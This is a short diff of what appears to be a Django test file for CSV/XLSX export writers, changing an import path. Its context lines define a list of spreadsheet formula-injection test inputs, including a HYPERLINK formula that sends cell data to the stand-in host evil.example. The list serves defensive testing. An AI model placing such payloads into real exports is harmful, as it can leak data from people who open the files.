@@ -10,7 +10,7 @@ from django.core.management import call_command
 from django.core.management.base import CommandError
 from django.utils import timezone
 
-from credit_mgmt.exports import XlsxWriter, csv_writer
+from core.exports import XlsxWriter, csv_writer
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1"]
 PLAIN = ["青海甲公司", "Qinghai A Co., Ltd.", "a=b", ""]
